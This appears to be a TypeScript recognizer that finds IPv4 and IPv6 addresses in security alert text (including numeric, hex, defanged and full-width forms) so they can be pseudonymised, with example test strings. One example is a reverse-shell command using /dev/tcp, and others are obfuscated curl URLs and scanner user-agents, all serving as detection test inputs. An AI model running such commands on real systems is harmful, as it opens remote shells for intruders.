import { isIPv6 } from "node:net";
import type { AddressClass } from "#alert/network.ts";
import { classifyAddress } from "#alert/network.ts";
import type { EntityType } from "#domain/pseudonymised.ts";
import type { Recognizer, Span } from "../recognizer.ts";
import { spansOf } from "../recognizer.ts";
import type { TextScan } from "../text-scan.ts";

/** Addresses that are the same everywhere stay readable: the analysis turns on them. */
const typeOfClass: Readonly<Record<AddressClass, EntityType | null>> = {
  loopback: null,
  unspecified: null,
  metadata: null,
  multicast: null,
  private: "INTERNAL-IP",
  cgnat: "CGNAT-IP",
  "link-local": "LINK-LOCAL-IP",
  documentation: "DOCUMENTATION-IP",
  public: "EXTERNAL-IP",
};

const ipv4 = /\d{1,3}(?:\.\d{1,3}){3}/g;
const ipv6 = /[\da-fA-F]{0,4}(?::[\da-fA-F]{0,5}){2,8}(?:\.\d{1,3}){0,3}/g;

/** The token's kind for an address; null for one that stays readable or is none. */
export function typeOfAddress(address: string): EntityType | null {
  const addressClass = classifyAddress(address);
  return addressClass === null ? null : typeOfClass[addressClass];
}

/** IPv4 and IPv6 addresses in every notation: as Falco prints them, with port, prefix or zone, and as one number in addresses. */
export const ipAddress: Recognizer = {
  name: "ip-address",
  find(scan) {
    const { text } = scan;
    const spans = text.includes(".")
      ? spansOf(text, ipv4, (value, start, end) => (isVersion(text, start, end) ? null : typeOfAddress(value)))
      : [];
    if (text.includes(":")) spans.push(...findIpv6(text));
    spans.push(...numbersInUrls(scan), ...veiled(text));
    return spans;
  },
  examples: {
    found: [
      ["fd.name=10.0.0.5:443->1.2.3.4:80", "1.2.3.4"],
      ["refused by fe80::1.", "fe80::1"],
      ["ping6 fe80::1%eth0", "fe80::1"],
      ["to [2001:4860::8888]:53", "2001:4860::8888"],
      ["::ffff:10.0.0.1 came", "::ffff:10.0.0.1"],
      ["net 192.168.7.0/24", "192.168.7.0"],
      ["a:1->2001:4860:0:0::8:443", "2001:4860:0:0::8"],
      ["curl http://167772165/x", "167772165"],
      ["curl http://0x0a000005:80/", "0x0a000005"],
      ["curl http://012.0.0.5/", "012.0.0.5"],
      ["kubectl debug node/10.0.0.5", "10.0.0.5"],
      ["mount nfs/10.0.0.5 x", "10.0.0.5"],
      ["scp shop/f 10.0.0.5:/x", "10.0.0.5"],
      ["bash -i >& /dev/tcp/10.0.0.5/4444", "10.0.0.5"],
      ["tshark -Y ip.addr==10.0.0.5", "10.0.0.5"],
      ["ioc 10[.]0[.]0[.]5 seen", "10[.]0[.]0[.]5"],
      ["ioc 1(.)2(.)3(dot)4 seen", "1(.)2(.)3(dot)4"],
      ["to １０.０.０.５ now", "１０.０.０.５"],
      ["dump 10.0.0.5_443.pcap", "10.0.0.5"],
      ["server = 10.0.0.5 : user", "10.0.0.5"],
      ["10.0.0.6[a]...10.0.0.5[b]", "10.0.0.5"],
    ],
    ignored: [
      "version 1.2.3",
      "999.1.1.1",
      "sha256:deadbeef",
      "at 12:30:05",
      "nginx-1.24.0.2.tar.gz",
      "v1.2.3.4",
      "Chrome/120.0.6.109",
      'GET / "sqlmap/1.8.3.2#stable (x)"',
      "agent=some-sdk-java/2.20.160.1 Linux",
      "ua=masscan/1.3.2.1)",
      "version=2.9.4.1 x",
      "images=(registry.shop.lan/platform/limiter:10.2.0.7)",
      "pip install x==1.2.3.4",
      "127.0.0.1:80",
      "oid 1.3.6.1",
      "gem install rails:7.1.3.4",
      "kubectl set image deploy/web web=nginx:1.27.0.1",
      "127[.]0[.]0[.]1",
      "::1",
      "0.0.0.0:22",
      "169.254.169.254",
      "std::vector",
      "http://2130706433/",
    ],
  },
};

function findIpv6(text: string): Span[] {
  const spans: Span[] = [];
  if (!isColonNearColon(text)) return spans;
  for (const match of text.matchAll(ipv6)) {
    const start = match.index;
    const before = text.charAt(start - 1);
    if (/[\w.:]/.test(before) || /\w/.test(text.charAt(start + match[0].length))) continue;
    const value = match[0].endsWith("::") ? match[0] : match[0].replace(/[:.]$/, "");
    // `address:port` without brackets, as Falco prints it: a last group that only a port can be goes first.
    const withoutPort = value.replace(/:\d{1,5}$/, "");
    const isWhole = isIPv6(value) && !(isIPv6(withoutPort) && looksLikePort(value, text, start + value.length));
    spans.push(...ipv6Span(isWhole ? value : withoutPort, start));
  }
  return spans;
}

/** Two colons with at most five characters between them, times of day apart: most texts have none. */
function isColonNearColon(text: string): boolean {
  let before = text.indexOf(":");
  for (let at = text.indexOf(":", before + 1); at >= 0; at = text.indexOf(":", at + 1)) {
    const isTime = at - before === 3 && text.charCodeAt(at + 3) !== 58 && text.charCodeAt(before - 3) !== 58;
    if (at - before <= 6 && !isTime) return true;
    before = at;
  }
  return false;
}

/** Colons of another list may stand in front, as in curl's `::` + address. */
function ipv6Span(text: string, offset: number): Span[] {
  for (let skip = 0; skip < 3; skip += 1) {
    const address = text.slice(skip);
    if (skip > 0 && text.charAt(skip - 1) !== ":") break;
    if (!isIPv6(address)) continue;
    const type = typeOfAddress(address);
    return type === null ? [] : [{ start: offset + skip, end: offset + text.length, type }];
  }
  return [];
}

/** In a connection (`a:port->b:port`) the last group is the port. */
function looksLikePort(value: string, text: string, end: number): boolean {
  const port = Number(value.slice(value.lastIndexOf(":") + 1));
  const start = end - value.length;
  return port <= 65_535 && (text.startsWith("->", end) || text.slice(start - 2, start) === "->");
}

/** Four numbers in a file name, behind a `v`, `==` or the name of a browser are a version; a word that goes on is no address. */
function isVersion(text: string, start: number, end: number): boolean {
  const before = text.slice(Math.max(0, start - 64), start);
  // `10.0.0.5...10.0.0.6` of IPsec; `x_10.0.0.5.log` is a file called after a machine.
  if (/[A-Za-z0-9.]$|[A-Za-z][-~+]$/.test(before) && !/(?:^|[^.])\.\.\.$/.test(before)) return true;
  if (before.endsWith("_") && !isPrivate(text.slice(start, end))) return true;
  // `pkg==1.2.3.4`, but `ip.addr==10.0.0.5`.
  if (/[=~<>!]=$/.test(before)) return !/(?:addr|ip|src|dst|host)\s?[=!]=$/i.test(before);
  const after = text.slice(end, end + 3);
  if (/^[A-Za-z0-9]|^\.\d|^[-~+](?:r?\d|deb|ubuntu)/.test(after)) return true;
  if (/^\.\w/.test(after) && (!isPrivate(text.slice(start, end)) || !fileEnd.test(text.slice(end, end + 10))))
    return true;
  // The beginning of the numbers that SNMP calls things by.
  if (text.slice(start, end) === "1.3.6.1") return true;
  return /(?:^|[\s"'(;])[A-Z][A-Za-z]{1,24}\/$/.test(before) || isProduct(text, start, end) || isNamedVersion(before);
}

const product = /(?:^|[\s"'(;,=|{])([A-Za-z][\w.+-]{1,40})\/$/;
/** What stands in front of a slash and an address: kinds of objects, protocols, classes of services. */
const noProduct =
  /^(?:tcp|udp|ip|ipv4|ipv6|icmp|http|https|ldap|ldaps|cifs|nfs|smb|host|hosts|node|nodes|pod|pods|svc|services?|ep|endpoints?|dns|rpc|dev|net|from|to|via|src|dst|client|server|peer|addr|address|https?-proxy|kafka|redis|mysql|postgres|DIRECT|HIER_DIRECT|DEFAULT_PARENT|[A-Z_]{6,40})$/;

/** \`name/1.2.3.4\` in a client's name for itself (RFC 9110, section 10.1.5), an image's tag: a version. */
function isProduct(text: string, start: number, end: number): boolean {
  const before = text.slice(Math.max(0, start - 96), start);
  if (/(?:^|[\s"'(,=[])(?:[\w-]{1,63}\.)*[\w-]{1,63}(?::\d{2,5})?(?:\/[\w.-]{1,64}){1,5}:$/.test(before))
    return !/^:\d|^->/.test(text.slice(end, end + 2)) && !before.includes("//");
  const name = product.exec(before)?.[1] ?? "";
  if (name === "" || noProduct.test(name) || /^[/:]|^->/.test(text.slice(end, end + 2))) return false;
  return !isPrivate(text.slice(start, end)) || clientName.test(text.slice(Math.max(0, start - 240), start));
}

/** `gem install rails:7.1.3.4`, `set image deploy/web web=nginx:1.27.0.1` */
const packageInFront = /\b(?:install|image|add|require|upgrade)\s(?:[^|;&\n]{0,48}[\s=])?[a-z][\w./-]{1,24}:$/;
/** Few versions begin so. */
function isPrivate(address: string): boolean {
  return /^(?:10\.\d{1,3}\.\d{1,3}|192\.168|172\.(?:1[6-9]|2\d|3[01]))\./.test(address);
}

const fileEnd = /^\.(?:log|pcap|txt|csv|json|tgz|tar|gz|zip|conf|key|pem|crt|xml|html|bak|out|dump|sql|yml)(?!\w)/;

const clientName = /(?:user[_-]?agent|useragent|\bua|\bagent)["']?\s?[=:]\s?["'(]?[^=]{0,200}$/i;

/** \`version=2.9.4.1\`, \`"engineVersion": "1.2.3.4"\`, \`mssql 15.0.2000.5\`. */
function isNamedVersion(before: string): boolean {
  if (packageInFront.test(before)) return true;
  return /(?:version|release|revision|build|(?<![a-z])ver|tag)["']?\s?[=:]\s?["'v]?$/i.test(before);
}

const numeric = /^(?:0x[0-9a-f]{1,8}|\d{8,10}|(?:0x[0-9a-f]{1,2}|0?\d{1,3})(?:\.(?:0x[0-9a-f]{1,2}|0?\d{1,3})){1,3})$/i;

/** `http://167772165/`, `http://0x0a000005/`, `http://012.0.0.5/`: what curl and wget take for an address. */
function numbersInUrls({ text, urls }: TextScan): Span[] {
  const spans: Span[] = [];
  for (const { hosts } of urls()) {
    for (const { start, end } of hosts) {
      const host = text.slice(start, end);
      if (!numeric.test(host) || classifyAddress(host) !== null) continue;
      const value = URL.canParse(`http://${host}/`) ? new URL(`http://${host}/`).hostname : host;
      const type = typeOfAddress(value);
      if (type !== null) spans.push({ start, end, type, value });
    }
  }
  return spans;
}

const dot = String.raw`(?:\[\.?\]|\(\.\)|\{\.\}|\[dot\]|\(dot\)|\\\.)`;
/** As reports write addresses so that nobody clicks them. */
const defanged = new RegExp(String.raw`(?<![\w.\])}])\d{1,3}(?:(?:${dot}|\.)\d{1,3}){3}(?![\w])`, "gi");
/** Full-width digits and stops look the same to a reader. */
const wide = /[\uff10-\uff19]{1,3}(?:[.\uff0e\u3002][\uff10-\uff19]{1,3}){3}/g;

/** `10[.]0[.]0[.]5`, `１０．０．０．５`: addresses all the same. */
function veiled(text: string): Span[] {
  const patterns = [];
  if (/\d(?:\[|\(|\{|\\\.)/.test(text)) patterns.push(defanged);
  if (/[\uff10-\uff19]/.test(text)) patterns.push(wide);
  return patterns.flatMap((pattern) =>
    [...text.matchAll(pattern)].flatMap(({ 0: found, index }): Span[] => {
      const value = found.normalize("NFKC").replaceAll(/[^\d]+/g, ".");
      const type = found === value ? null : typeOfAddress(value);
      return type === null ? [] : [{ start: index, end: index + found.length, type, value }];
    }),
  );
}
